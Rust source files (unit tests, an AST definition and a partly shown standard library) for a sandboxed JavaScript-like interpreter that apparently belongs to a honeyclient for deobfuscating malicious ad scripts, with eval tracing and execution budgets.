    fn step_budget_stops_infinite_loop() {
        let mut interp = Interpreter::new(
            NoHost,
            Limits {
                max_steps: 10_000,
                max_depth: 50,
            },
            1,
        );
        let err = interp.run("while (true) {}").unwrap_err();
        assert_eq!(err, ScriptError::BudgetExhausted);
    }

    #[test]
    fn recursion_limit() {
        let mut interp = Interpreter::new(
            NoHost,
            Limits {
                max_steps: 10_000_000,
                max_depth: 64,
            },
            1,
        );
        let err = interp.run("function f() { return f(); } f();").unwrap_err();
        assert_eq!(err, ScriptError::BudgetExhausted);
    }

    #[test]
    fn eval_runs_in_current_scope() {
        assert_eq!(out("var x = 1; eval('x = x + 41;'); out = x;"), "42");
        assert_eq!(out("eval('var fresh = 7;'); out = fresh;"), "7");
    }

    #[test]
    fn eval_inside_function_scope() {
        assert_eq!(
            out("function f() { var local = 5; eval('local = local * 2;'); return local; } out = f();"),
            "10"
        );
    }

    #[test]
    fn eval_trace_records_deobfuscated_layers() {
        let mut interp = Interpreter::new(NoHost, Limits::default(), 1);
        interp.run("eval(\"eval('out = 1 + 1;');\");").unwrap();
        assert_eq!(interp.eval_trace.len(), 2);
        assert_eq!(interp.eval_trace[0], "eval('out = 1 + 1;');");
        assert_eq!(interp.eval_trace[1], "out = 1 + 1;");
    }

    #[test]
    fn nested_eval_obfuscation() {
        // Two layers of eval, as obfuscated creatives do.
        assert_eq!(out(r#"eval("eval('out = 1 + 1;');");"#), "2");
    }

    #[test]
    fn function_hoisting() {
        assert_eq!(
            out("out = f(); function f() { return 'hoisted'; }"),
            "hoisted"
        );
    }

    #[test]
    fn this_binding_on_method_calls() {
        assert_eq!(
            out("var o = {v: 7, get: function() { return this.v; }}; out = o.get();"),
            "7"
        );
    }

    #[test]
    fn arguments_object() {
        assert_eq!(
            out("function f() { return arguments.length + ':' + arguments[1]; } out = f('a', 'b', 'c');"),
            "3:b"
        );
    }

    #[test]
    fn comma_and_seq() {
        assert_eq!(out("var a = (1, 2, 3); out = a;"), "3");
    }

    #[test]
    fn bitwise_ops() {
        assert_eq!(out("out = 5 & 3;"), "1");
        assert_eq!(out("out = 5 | 3;"), "7");
        assert_eq!(out("out = 5 ^ 3;"), "6");
        assert_eq!(out("out = 1 << 4;"), "16");
        assert_eq!(out("out = 16 >> 2;"), "4");
        assert_eq!(out("out = ~0;"), "-1");
    }

    #[test]
    fn string_indexing_and_length() {
        assert_eq!(out("var s = 'hello'; out = s.length;"), "5");
        assert_eq!(out("var s = 'hello'; out = s[1];"), "e");
    }

    #[test]
    fn array_display_joins() {
        let v = run("return [1, 2, 3] + '';");
        assert!(v.strict_eq(&Value::str("1,2,3")));
    }

    #[test]
    fn new_plain_constructor() {
        assert_eq!(
            out("function Point(x) { this.x = x; } var p = new Point(4); out = p.x;"),
            "4"
        );
    }

    #[test]
    fn in_operator() {
        assert_eq!(out("var o = {k: 1}; out = 'k' in o;"), "true");
        assert_eq!(out("var o = {k: 1}; out = 'z' in o;"), "false");
        assert_eq!(out("var a = [1, 2]; out = 1 in a;"), "true");
    }

    #[test]
    fn switch_basic_and_fallthrough() {
        assert_eq!(
            out("var x = 2; var log = ''; switch (x) { \
                 case 1: log += 'a'; break; \
                 case 2: log += 'b'; \
                 case 3: log += 'c'; break; \
                 default: log += 'd'; } out = log;"),
            "bc"
        );
    }

    #[test]
    fn switch_default_clause() {
        assert_eq!(
            out("switch ('nope') { case 'x': out = 1; break; default: out = 'fell'; }"),
            "fell"
        );
    }

    #[test]
    fn switch_no_match_no_default() {
        assert_eq!(
            out("out = 'untouched'; switch (9) { case 1: out = 'no'; }"),
            "untouched"
        );
    }

    #[test]
    fn switch_strict_matching() {
        // `switch` uses strict equality: '2' does not match 2.
        assert_eq!(
            out("switch ('2') { case 2: out = 'loose'; break; default: out = 'strict'; }"),
            "strict"
        );
    }

    #[test]
    fn switch_string_cases() {
        assert_eq!(
            out("var ua = 'Firefox'; switch (ua) { \
                 case 'Chrome': out = 'c'; break; \
                 case 'Firefox': out = 'f'; break; } "),
            "f"
        );
    }

    #[test]
    fn for_in_object_keys_sorted() {
        assert_eq!(
            out("var o = {b: 1, a: 2, c: 3}; var ks = ''; for (var k in o) { ks += k; } out = ks;"),
            "abc"
        );
    }

    #[test]
    fn for_in_array_indices() {
        assert_eq!(
            out("var a = ['x', 'y', 'z']; var total = 0; for (var i in a) { total += a[i]; } out = total;"),
            "0xyz"
        );
    }

    #[test]
    fn for_in_without_var() {
        assert_eq!(out("var o = {k: 5}; for (key in o) { out = key; }"), "k");
    }

    #[test]
    fn switch_break_does_not_leak_to_enclosing_loop() {
        // `break` inside a case body terminates the switch, not the loop.
        assert_eq!(
            out("var n = 0; for (var i = 0; i < 4; i++) { \
                 switch (i) { case 1: break; default: n++; } } out = n;"),
            "3"
        );
    }

    #[test]
    fn continue_inside_switch_reaches_loop() {
        assert_eq!(
            out("var s = ''; for (var i = 0; i < 4; i++) { \
                 switch (i % 2) { case 0: continue; } s += i; } out = s;"),
            "13"
        );
    }

    #[test]
    fn switch_inside_function_with_return() {
        assert_eq!(
            out("function name(code) { switch (code) { \
                 case 200: return 'ok'; case 404: return 'missing'; \
                 default: return 'other'; } } \
                 out = name(404) + '/' + name(200) + '/' + name(500);"),
            "missing/ok/other"
        );
    }

    #[test]
    fn try_catch_inside_loop_keeps_iterating() {
        assert_eq!(
            out("var ok = 0; for (var i = 0; i < 5; i++) { \
                 try { if (i % 2 == 0) { throw i; } ok++; } catch (e) { } } out = ok;"),
            "2"
        );
    }

    #[test]
    fn for_in_break() {
        assert_eq!(
            out("var o = {a: 1, b: 2, c: 3}; var n = 0; for (var k in o) { n++; if (n == 2) break; } out = n;"),
            "2"
        );
    }

    #[test]
    fn finally_runs_after_throw() {
        assert_eq!(
            out("var log = ''; try { try { throw 'x'; } finally { log += 'f'; } } catch (e) { log += 'c'; } out = log;"),
            "fc"
        );
    }

    #[test]
    fn read_before_var_falls_back_to_outer_binding() {
        // `r = x` runs before `var x` executes: the slot is unwritten, so
        // the read must resolve the *outer* `x` — and after `var x` runs,
        // the slot shadows it. (No var hoisting in this engine, only
        // function hoisting.)
        assert_eq!(
            out("var x = 'outer'; function f() { var r = x; var x = 'inner'; return r + ':' + x; } out = f();"),
            "outer:inner"
        );
    }

    #[test]
    fn eval_introduced_var_is_visible_to_tainted_scope() {
        // The scope mentions `eval`, so `z` must stay a by-name reference
        // and see the binding eval injects at runtime.
        assert_eq!(
            out("function f() { eval('var z = 9;'); return z; } out = f();"),
            "9"
        );
        // eval writing an *existing* declared local goes through its slot.
        assert_eq!(
            out("function g() { var n = 1; eval('n = n + 41;'); return n; } out = g();"),
            "42"
        );
    }

    #[test]
    fn run_and_run_program_agree() {
        let src = "function fib(n) { return n < 2 ? n : fib(n - 1) + fib(n - 2); } out = fib(12);";
        let mut a = Interpreter::new(NoHost, Limits::default(), 1);
        a.run(src).unwrap();
        let script = crate::cache::CompiledScript::compile(src).unwrap();
        let mut b = Interpreter::new(NoHost, Limits::default(), 1);
        b.run_program(&script).unwrap();
        let get = |i: &Interpreter<NoHost>| {
            let v = i.get_global("out").cloned().unwrap();
            i.display_value(&v)
        };
        assert_eq!(get(&a), get(&b));
        assert_eq!(get(&a), "144");
        assert_eq!(a.script_units(), 1);
        assert_eq!(b.script_units(), 1);
    }

    #[test]
    fn eval_routes_through_the_compile_cache() {
        use crate::cache::{ScriptCache, ScriptStats};
        let stats = ScriptStats::new();
        let cache = ScriptCache::new(64, stats.clone());
        let mut interp = Interpreter::new(NoHost, Limits::default(), 1);
        interp.set_script_cache(cache);
        interp
            .run("x = 0; for (var i = 0; i < 3; i++) { eval('x = x + 1;'); } out = x;")
            .unwrap();
        let v = interp.get_global("out").cloned().unwrap();
        assert_eq!(interp.display_value(&v), "3");
        // One outer compile + three evals of one distinct payload.
        let counts = stats.snapshot();
        assert_eq!(counts.lookups, 4);
        assert_eq!(counts.cache_misses, 2);
        assert_eq!(counts.cache_hits, 2);
        // The deobfuscation trace still records every eval, hits included.
        assert_eq!(interp.eval_trace.len(), 3);
        // Compile units are deterministic: 1 outer + 3 evals.
        assert_eq!(interp.script_units(), 4);
    }

    #[test]
    fn shared_cached_program_runs_identically_across_interpreters() {
        use crate::cache::{ScriptCache, ScriptStats};
        let src = "var s = ''; for (var i = 0; i < 5; i++) { s += i; } out = s;";
        let cache = ScriptCache::new(16, ScriptStats::new());
        let baseline = {
            let mut interp = Interpreter::new(NoHost, Limits::default(), 7);
            interp.run(src).unwrap();
            let v = interp.get_global("out").cloned().unwrap();
            interp.display_value(&v)
        };
        for _ in 0..3 {
            let mut interp = Interpreter::new(NoHost, Limits::default(), 7);
            interp.set_script_cache(cache.clone());
            interp.run(src).unwrap();
            let v = interp.get_global("out").cloned().unwrap();
            assert_eq!(interp.display_value(&v), baseline);
        }
        assert_eq!(cache.stats().cache_hits(), 2);
    }
}
