//! AdScript abstract syntax tree.
//!
//! Identifiers and property names are interned at parse time: every
//! occurrence of the same name within a program shares one `Arc<str>`
//! allocation, and [`Program::symbols`] lists each distinct name once. The
//! parser also runs a resolution pass (see `crate::resolve`) that rewrites
//! statically-bindable variable references into [`Expr::Local`] slot accesses
//! and records each function's slot layout in its [`ScopeInfo`]. Because the
//! tree holds no `Rc`, a parsed [`Program`] is `Send + Sync` and can sit in a
//! compilation cache shared across crawler workers.

use crate::bytecode::Chunk;
use std::sync::{Arc, OnceLock};

/// An interned identifier or property name.
pub type Name = Arc<str>;

/// A complete program: a list of statements plus the symbol table built
/// while parsing (each distinct interned name, sorted).
#[derive(Debug, Clone, PartialEq)]
pub struct Program {
    /// Top-level statements.
    pub body: Vec<Stmt>,
    /// Every distinct identifier/property name interned from the source.
    pub symbols: Vec<Name>,
}

/// The slot layout of one function scope, fixed at parse time: parameters
/// first (deduplicated), then `arguments`, then every name declared via
/// `var`, a function declaration, or a `for..in` binding anywhere in the
/// body — excluding nested functions and `catch` handlers, which own their
/// names.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct ScopeInfo {
    /// Slot names in slot order.
    pub names: Vec<Name>,
    /// The slot of each parameter, in parameter order (duplicate parameter
    /// names share the first occurrence's slot). Empty when the resolver
    /// never ran on this scope; the interpreter then binds parameters by
    /// name instead.
    pub param_slots: Vec<u32>,
    /// True only when the resolver proved the function body can never
    /// observe the `arguments` array — no `arguments` identifier and no
    /// mention of `eval` anywhere below it (a direct eval in a nested scope
    /// can walk the environment chain back up at runtime). Calls then skip
    /// materializing the array. The safe default is `false`.
    pub arguments_unused: bool,
    /// True only when the resolver proved that every identifier it left
    /// unresolved in this function body binds at the global environment:
    /// the body and every enclosing function scope are eval-free, and no
    /// dynamic (`catch`) scope sits between the body and the global scope.
    /// The VM then enables global-binding inline caches inside the
    /// function's chunk. The safe default is `false`.
    pub globals_safe: bool,
}

impl ScopeInfo {
    /// The slot index of `name`, if this scope declares it.
    pub fn slot_of(&self, name: &str) -> Option<usize> {
        self.names.iter().position(|n| n.as_ref() == name)
    }
}

/// A function definition (declaration or expression).
pub struct FnDef {
    /// Optional name (declarations always have one).
    pub name: Option<Name>,
    /// Parameter names.
    pub params: Vec<Name>,
    /// Function body.
    pub body: Arc<Vec<Stmt>>,
    /// Slot layout of the function's scope, filled by the resolution pass.
    pub scope: Arc<ScopeInfo>,
    /// Bytecode for the body, lowered lazily on the first VM call and then
    /// shared by every worker holding this definition. Not part of the
    /// definition's identity: `Clone`/`PartialEq`/`Debug` ignore it.
    pub code: OnceLock<Arc<Chunk>>,
}

impl Clone for FnDef {
    fn clone(&self) -> Self {
        FnDef {
            name: self.name.clone(),
            params: self.params.clone(),
            body: self.body.clone(),
            scope: self.scope.clone(),
            // A clone is a fresh definition identity; it re-lowers on demand.
            code: OnceLock::new(),
        }
    }
}

impl PartialEq for FnDef {
    fn eq(&self, other: &Self) -> bool {
        self.name == other.name
            && self.params == other.params
            && self.body == other.body
            && self.scope == other.scope
    }
}

impl std::fmt::Debug for FnDef {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("FnDef")
            .field("name", &self.name)
            .field("params", &self.params)
            .field("body", &self.body)
            .field("scope", &self.scope)
            .finish()
    }
}

/// Statements.
#[derive(Debug, Clone, PartialEq)]
pub enum Stmt {
    /// `var a = 1, b;`
    Var(Vec<(Name, Option<Expr>)>),
    /// An expression evaluated for effect.
    Expr(Expr),
    /// `{ ... }`
    Block(Vec<Stmt>),
    /// `if (cond) then else alt`
    If {
        /// Condition.
        cond: Expr,
        /// Then-branch.
        then: Box<Stmt>,
        /// Optional else-branch.
        alt: Option<Box<Stmt>>,
    },
    /// `while (cond) body`
    While {
        /// Condition.
        cond: Expr,
        /// Loop body.
        body: Box<Stmt>,
    },
    /// `do body while (cond);`
    DoWhile {
        /// Loop body.
        body: Box<Stmt>,
        /// Condition.
        cond: Expr,
    },
    /// `for (init; cond; update) body`
    For {
        /// Initializer (var statement or expression).
        init: Option<Box<Stmt>>,
        /// Condition (empty = true).
        cond: Option<Expr>,
        /// Update expression.
        update: Option<Expr>,
        /// Loop body.
        body: Box<Stmt>,
    },
    /// `switch (disc) { case e: ...; default: ... }`
    Switch {
        /// Discriminant.
        disc: Expr,
        /// Cases in source order: `None` test = `default`. Bodies fall
        /// through, like JS.
        cases: Vec<(Option<Expr>, Vec<Stmt>)>,
    },
    /// `for (var k in obj) body`
    ForIn {
        /// Whether the loop variable was declared with `var`.
        decl: bool,
        /// Loop variable name.
        name: Name,
        /// Object expression iterated over.
        object: Expr,
        /// Loop body.
        body: Box<Stmt>,
    },
    /// `function name(...) { ... }` — shared so hoisting a declaration (and
    /// making closures from it) is a reference-count bump, not a deep clone.
    FnDecl(Arc<FnDef>),
    /// `return expr;`
    Return(Option<Expr>),
    /// `break;`
    Break,
    /// `continue;`
    Continue,
    /// `throw expr;`
    Throw(Expr),
    /// `try { } catch (e) { } finally { }`
    Try {
        /// Protected block.
        block: Vec<Stmt>,
        /// Catch clause: bound name and handler body.
        catch: Option<(Name, Vec<Stmt>)>,
        /// Finally block.
        finally: Option<Vec<Stmt>>,
    },
    /// `;`
    Empty,
}

/// Binary operators.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[allow(missing_docs)]
pub enum BinOp {
    Add,
    Sub,
    Mul,
    Div,
    Mod,
    EqLoose,
    NeLoose,
    EqStrict,
    NeStrict,
    Lt,
    Gt,
    Le,
    Ge,
    BitAnd,
    BitOr,
    BitXor,
    Shl,
    Shr,
    UShr,
    Instanceof,
    In,
}

/// Unary operators.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[allow(missing_docs)]
pub enum UnOp {
    Neg,
    Pos,
    Not,
    Typeof,
    BitNot,
    Void,
    Delete,
}

/// Assignment operators.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[allow(missing_docs)]
pub enum AssignOp {
    Assign,
    Add,
    Sub,
    Mul,
    Div,
    Mod,
}

/// Expressions.
#[derive(Debug, Clone, PartialEq)]
pub enum Expr {
    /// Numeric literal.
    Num(f64),
    /// String literal.
    Str(String),
    /// Boolean literal.
    Bool(bool),
    /// `null`
    Null,
    /// `undefined`
    Undefined,
    /// `this`
    This,
    /// Variable reference resolved by name along the environment chain
    /// (globals, `catch` bindings, and anything the resolver could not bind
    /// statically — e.g. names in scopes that contain a direct `eval`).
    Ident(Name),
    /// Variable reference bound at parse time to a slot `depth` scopes up
    /// the chain. `name` is kept for diagnostics and for the by-name
    /// fallback when the slot has not been written yet (`var` that has not
    /// executed).
    Local {
        /// Original identifier, for errors and fallback lookups.
        name: Name,
        /// Number of scope hops from the use site to the declaring scope.
        depth: u32,
        /// Slot index within the declaring scope.
        slot: u32,
    },
    /// `[a, b, c]`
    Array(Vec<Expr>),
    /// `{k: v, ...}`
    Object(Vec<(Name, Expr)>),
    /// Function expression (shared, like [`Stmt::FnDecl`]).
    Function(Arc<FnDef>),
    /// `target op value` where target is an lvalue.
    Assign {
        /// Assignment target.
        target: Box<Expr>,
        /// Operator.
        op: AssignOp,
        /// Right-hand side.
        value: Box<Expr>,
    },
    /// `cond ? then : alt`
    Cond {
        /// Condition.
        cond: Box<Expr>,
        /// Value when truthy.
        then: Box<Expr>,
        /// Value when falsy.
        alt: Box<Expr>,
    },
    /// `a || b` (short-circuit).
    Or(Box<Expr>, Box<Expr>),
    /// `a && b` (short-circuit).
    And(Box<Expr>, Box<Expr>),
    /// Binary operation.
    Bin {
        /// Operator.
        op: BinOp,
        /// Left operand.
        lhs: Box<Expr>,
        /// Right operand.
        rhs: Box<Expr>,
    },
    /// Unary operation.
    Un {
        /// Operator.
        op: UnOp,
        /// Operand.
        operand: Box<Expr>,
    },
    /// `++x`, `x++`, `--x`, `x--`
    IncDec {
        /// Target lvalue.
        target: Box<Expr>,
        /// `+1` or `-1`.
        delta: i8,
        /// Prefix (`true`) or postfix.
        prefix: bool,
    },
    /// `obj.prop`
    Member {
        /// Object expression.
        object: Box<Expr>,
        /// Property name.
        prop: Name,
    },
    /// `obj[expr]`
    Index {
        /// Object expression.
        object: Box<Expr>,
        /// Index expression.
        index: Box<Expr>,
    },
    /// `callee(args...)`
    Call {
        /// Callee (member expressions bind `this`).
        callee: Box<Expr>,
        /// Arguments.
        args: Vec<Expr>,
    },
    /// `new Callee(args...)`
    New {
        /// Constructor expression.
        callee: Box<Expr>,
        /// Arguments.
        args: Vec<Expr>,
    },
    /// `a, b` (comma operator).
    Seq(Box<Expr>, Box<Expr>),
}
