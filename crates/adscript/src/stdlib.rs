//! AdScript standard library: the built-in functions ad scripts actually use.
//!
//! Built-ins are [`Value::Native`] values whose names start with `std:`; the
//! interpreter dispatches them here rather than to the embedder's host. The
//! library focuses on the obfuscation/deobfuscation toolbox (string building,
//! char codes, `unescape`, `parseInt`) because that is what real malvertising
//! payloads lean on.

use crate::heap::{NameMap, Sym};
use crate::interp::{Host, Interpreter};
use crate::value::{Heap, ObjId, ObjKind, Value};
use std::sync::OnceLock;

/// Installs global bindings into the global environment.
pub fn install_globals(heap: &mut Heap, globals: &mut NameMap) {
    // Math object.
    let math = heap.alloc_native("Math");
    for f in [
        "floor", "ceil", "abs", "max", "min", "round", "random", "pow", "sqrt",
    ] {
        heap.get_mut(math)
            .props
            .insert(f, native(&format!("math:{f}")));
    }
    heap.get_mut(math)
        .props
        .insert("PI", Value::Num(std::f64::consts::PI));
    globals.insert("Math", Value::Obj(math));

    // String "constructor" object carrying fromCharCode.
    let string_obj = heap.alloc_native("String");
    heap.get_mut(string_obj)
        .props
        .insert("fromCharCode", native("fromCharCode"));
    globals.insert("String", Value::Obj(string_obj));

    // JSON-less global functions.
    for f in [
        "parseInt",
        "parseFloat",
        "isNaN",
        "unescape",
        "escape",
        "decodeURIComponent",
        "encodeURIComponent",
        "Number",
        "Boolean",
        "atob",
        "btoa",
    ] {
        globals.insert(f, native(f));
    }
    globals.insert("eval", native("eval"));
    globals.insert("NaN", Value::Num(f64::NAN));
    globals.insert("Infinity", Value::Num(f64::INFINITY));
}

fn native(name: &str) -> Value {
    Value::native(&format!("std:{name}"))
}

/// String methods recognized on string primitives.
const STRING_METHODS: &[&str] = &[
    "charCodeAt",
    "charAt",
    "indexOf",
    "lastIndexOf",
    "substring",
    "substr",
    "slice",
    "split",
    "replace",
    "toLowerCase",
    "toUpperCase",
    "concat",
    "trim",
    "toString",
];

/// Number methods recognized on numeric primitives.
const NUMBER_METHODS: &[&str] = &["toString", "toFixed"];

/// Array methods recognized on arrays.
const ARRAY_METHODS: &[&str] = &[
    "push", "pop", "shift", "unshift", "join", "reverse", "indexOf", "slice", "concat", "toString",
];

thread_local! {
    /// Pre-interned method natives, built once per thread: property reads
    /// on primitives hand out a `Sym`-backed value without formatting or
    /// re-interning on the hot path.
    static METHOD_TABLE: Vec<(&'static str, Value, Value, Value)> = {
        let entry = |prefix: &str, m: &&str| Value::native(&format!("std:{prefix}:{m}"));
        let mut rows = Vec::new();
        for m in STRING_METHODS.iter().chain(ARRAY_METHODS).chain(NUMBER_METHODS) {
            if rows.iter().any(|(name, _, _, _)| name == m) {
                continue;
            }
            rows.push((*m, entry("str", m), entry("arr", m), entry("num", m)));
        }
        rows
    };
}

fn method_lookup(
    name: &str,
    table: &[&str],
    pick: fn(&(&'static str, Value, Value, Value)) -> Value,
) -> Option<Value> {
    if !table.contains(&name) {
        return None;
    }
    METHOD_TABLE.with(|t| t.iter().find(|row| row.0 == name).map(pick))
}

/// The native value for a string method, if `name` is one.
pub(crate) fn str_method(name: &str) -> Option<Value> {
    method_lookup(name, STRING_METHODS, |row| row.1.clone())
}

/// The native value for an array method, if `name` is one.
pub(crate) fn arr_method(name: &str) -> Option<Value> {
    method_lookup(name, ARRAY_METHODS, |row| row.2.clone())
}

/// The native value for a number method, if `name` is one.
pub(crate) fn num_method(name: &str) -> Option<Value> {
    method_lookup(name, NUMBER_METHODS, |row| row.3.clone())
}

/// The interned symbol for the direct-`eval` native: both engines detect
/// `eval` calls with one pointer compare.
pub(crate) fn eval_sym() -> Sym {
    static EVAL: OnceLock<Sym> = OnceLock::new();
    *EVAL.get_or_init(|| Sym::intern("std:eval"))
}

/// Dispatches a `std:`-prefixed native call. `name` has the prefix stripped.
pub fn call<H: Host>(
    interp: &mut Interpreter<H>,
    name: &str,
    this: Option<ObjId>,
    args: &[Value],
) -> Result<Value, Value> {
    if let Some(f) = name.strip_prefix("math:") {
        return math(interp, f, args);
    }
    if let Some(f) = name.strip_prefix("str:") {
        return string_method(interp, f, args);
    }
    if let Some(f) = name.strip_prefix("arr:") {
        return array_method(interp, f, this, args);
    }
    if let Some(f) = name.strip_prefix("num:") {
        return number_method(f, args);
    }
    match name {
        "fromCharCode" => {
            let mut s = String::new();
            for a in args {
                let code = a.to_number();
                if code.is_finite() && code >= 0.0 {
                    if let Some(c) = char::from_u32(code as u32) {
                        s.push(c);
                    }
                }
            }
            Ok(Value::str(s))
        }
        "parseInt" => {
            let s = display(interp, args.first());
            let t = s.trim();
            let radix = args
                .get(1)
                .map(|v| v.to_number())
                .filter(|r| r.is_finite() && *r >= 2.0 && *r <= 36.0)
                .map(|r| r as u32);
            Ok(Value::Num(parse_int(t, radix)))
        }
        "parseFloat" => {
            let s = display(interp, args.first());
            let t = s.trim();
            // Longest numeric prefix.
            let mut end = 0;
            let bytes = t.as_bytes();
            let mut seen_dot = false;
            let mut seen_e = false;
            while end < bytes.len() {
                let b = bytes[end];
                if b.is_ascii_digit()
                    || (end == 0 && (b == b'-' || b == b'+'))
                    || (b == b'.' && !seen_dot && !seen_e)
                    || ((b | 0x20) == b'e' && !seen_e && end > 0)
                    || ((b == b'-' || b == b'+') && end > 0 && (bytes[end - 1] | 0x20) == b'e')
                {
                    if b == b'.' {
                        seen_dot = true;
                    }
                    if (b | 0x20) == b'e' {
                        seen_e = true;
                    }
                    end += 1;
                } else {
                    break;
                }
            }
            Ok(Value::Num(t[..end].parse().unwrap_or(f64::NAN)))
        }
        "isNaN" => Ok(Value::Bool(
            args.first().map(|v| v.to_number().is_nan()).unwrap_or(true),
        )),
        "Number" => Ok(Value::Num(
            args.first().map(|v| v.to_number()).unwrap_or(0.0),
        )),
        "Boolean" => Ok(Value::Bool(
            args.first().map(|v| v.truthy()).unwrap_or(false),
        )),
        "unescape" | "decodeURIComponent" => {
            let s = display(interp, args.first());
            Ok(Value::str(percent_decode(&s)))
        }
        "escape" | "encodeURIComponent" => {
            let s = display(interp, args.first());
            Ok(Value::str(percent_encode(&s)))
        }
        "atob" => {
            let s = display(interp, args.first());
            base64_decode(&s)
                .map(Value::str)
                .ok_or_else(|| Value::str("atob: invalid base64"))
        }
        "btoa" => {
            let s = display(interp, args.first());
            Ok(Value::str(base64_encode(s.as_bytes())))
        }
        // `eval` is handled by the interpreter (needs the caller's scope);
        // reaching here means it was detached (e.g. `var e = eval; e(...)`).
        // We refuse, which is observable behaviour the honeyclient flags.
        "eval" => Err(Value::str("indirect eval is not supported")),
        other => Err(Value::str(format!("unknown builtin {other}"))),
    }
}

/// Number methods: the receiver number is the synthetic first argument.
fn number_method(f: &str, args: &[Value]) -> Result<Value, Value> {
    let this = args
        .first()
        .map(|v| v.to_number())
        .ok_or_else(|| Value::str("number method without receiver"))?;
    let args = &args[1..];
    match f {
        "toString" => {
            let radix = args
                .first()
                .map(|v| v.to_number())
                .filter(|r| r.is_finite() && (2.0..=36.0).contains(r))
                .map(|r| r as u32)
                .unwrap_or(10);
            if radix == 10 {
                return Ok(Value::str(crate::value::number_to_string(this)));
            }
            // Integer radix conversion (obfuscators use base 16/36); the
            // fractional part is dropped, like `(255.7).toString(16)` would
            // keep only well-formed digits for our integer-heavy scripts.
            let negative = this < 0.0;
            let mut n = this.abs().floor() as u64;
            let digits = b"0123456789abcdefghijklmnopqrstuvwxyz";
            let mut out = Vec::new();
            loop {
                out.push(digits[(n % u64::from(radix)) as usize]);
                n /= u64::from(radix);
                if n == 0 {
                    break;
                }
            }
            if negative {
                out.push(b'-');
            }
            out.reverse();
            Ok(Value::str(String::from_utf8(out).expect("ascii digits")))
        }
        "toFixed" => {
            let places = args
                .first()
                .map(|v| v.to_number())
                .filter(|p| p.is_finite() && *p >= 0.0)
                .map(|p| p as usize)
                .unwrap_or(0)
                .min(20);
            Ok(Value::str(format!("{this:.places$}")))
        }
        other => Err(Value::str(format!("unknown number method {other}"))),
    }
}

fn display<H: Host>(interp: &Interpreter<H>, v: Option<&Value>) -> String {
    v.map(|v| interp.display_value(v)).unwrap_or_default()
}

fn math<H: Host>(interp: &mut Interpreter<H>, f: &str, args: &[Value]) -> Result<Value, Value> {
    let a = args.first().map(|v| v.to_number()).unwrap_or(f64::NAN);
    let b = args.get(1).map(|v| v.to_number()).unwrap_or(f64::NAN);
    let v = match f {
        "floor" => a.floor(),
        "ceil" => a.ceil(),
        "abs" => a.abs(),
        "round" => (a + 0.5).floor(),
        "sqrt" => a.sqrt(),
        "pow" => a.powf(b),
        "max" => args
            .iter()
            .map(|v| v.to_number())
            .fold(f64::NEG_INFINITY, f64::max),
        "min" => args
            .iter()
            .map(|v| v.to_number())
            .fold(f64::INFINITY, f64::min),
        "random" => interp.random(),
        other => return Err(Value::str(format!("unknown Math.{other}"))),
    };
    Ok(Value::Num(v))
}

/// String methods. The receiver string is passed as the first argument (the
/// interpreter prepends it for primitive receivers).
fn string_method<H: Host>(
    interp: &mut Interpreter<H>,
    f: &str,
    args: &[Value],
) -> Result<Value, Value> {
    let this = match args.first() {
        Some(Value::Str(s)) => s.to_string(),
        Some(other) => interp.display_value(other),
        None => return Err(Value::str("string method without receiver")),
    };
    let args = &args[1..];
    let chars: Vec<char> = this.chars().collect();
    let arg_str = |i: usize| -> String {
        args.get(i)
            .map(|v| interp.display_value(v))
            .unwrap_or_default()
    };
    let arg_num = |i: usize| -> f64 { args.get(i).map(|v| v.to_number()).unwrap_or(f64::NAN) };
    let clamp_index = |n: f64| -> usize {
        if n.is_nan() || n < 0.0 {
            0
        } else if n as usize > chars.len() {
            chars.len()
        } else {
            n as usize
        }
    };
    match f {
        "charCodeAt" => {
            let idx = if args.is_empty() { 0.0 } else { arg_num(0) };
            let idx = if idx.is_nan() { 0.0 } else { idx };
            Ok(chars
                .get(idx as usize)
                .map(|c| Value::Num(*c as u32 as f64))
                .unwrap_or(Value::Num(f64::NAN)))
        }
        "charAt" => {
            let idx = if args.is_empty() { 0.0 } else { arg_num(0) };
            Ok(Value::str(
                chars
                    .get(idx as usize)
                    .map(|c| c.to_string())
                    .unwrap_or_default(),
            ))
        }
        "indexOf" => {
            let needle = arg_str(0);
            Ok(Value::Num(
                this.find(&needle)
                    .map(|byte_idx| this[..byte_idx].chars().count() as f64)
                    .unwrap_or(-1.0),
            ))
        }
        "lastIndexOf" => {
            let needle = arg_str(0);
            Ok(Value::Num(
                this.rfind(&needle)
                    .map(|byte_idx| this[..byte_idx].chars().count() as f64)
                    .unwrap_or(-1.0),
            ))
        }
        "substring" => {
            let mut a = clamp_index(arg_num(0));
            let mut b = if args.len() > 1 {
                clamp_index(arg_num(1))
            } else {
                chars.len()
            };
            if a > b {
                std::mem::swap(&mut a, &mut b);
            }
            Ok(Value::str(chars[a..b].iter().collect::<String>()))
        }
        "substr" => {
            let start = clamp_index(arg_num(0));
            let len = if args.len() > 1 {
                let n = arg_num(1);
                if n.is_nan() || n < 0.0 {
                    0
                } else {
                    n as usize
                }
            } else {
                chars.len().saturating_sub(start)
            };
            let end = (start + len).min(chars.len());
            Ok(Value::str(chars[start..end].iter().collect::<String>()))
        }
        "slice" => {
            let resolve = |n: f64, default: usize| -> usize {
                if n.is_nan() {
                    default
                } else if n < 0.0 {
                    chars.len().saturating_sub((-n) as usize)
                } else {
                    (n as usize).min(chars.len())
                }
            };
            let a = if args.is_empty() {
                0
            } else {
                resolve(arg_num(0), 0)
            };
            let b = if args.len() > 1 {
                resolve(arg_num(1), chars.len())
            } else {
                chars.len()
            };
            if a >= b {
                Ok(Value::str(""))
            } else {
                Ok(Value::str(chars[a..b].iter().collect::<String>()))
            }
        }
        "split" => {
            let parts: Vec<Value> = if args.is_empty() {
                vec![Value::str(&this)]
            } else {
                let sep = arg_str(0);
                if sep.is_empty() {
                    chars.iter().map(|c| Value::str(c.to_string())).collect()
                } else {
                    this.split(&sep).map(Value::str).collect()
                }
            };
            Ok(Value::Obj(interp.heap.alloc_array(parts)))
        }
        "replace" => {
            // First-occurrence string replace (no regex support).
            let from = arg_str(0);
            let to = arg_str(1);
            Ok(Value::str(this.replacen(&from, &to, 1)))
        }
        "toLowerCase" => Ok(Value::str(this.to_lowercase())),
        "toUpperCase" => Ok(Value::str(this.to_uppercase())),
        "concat" => {
            let mut s = this;
            for i in 0..args.len() {
                s.push_str(&arg_str(i));
            }
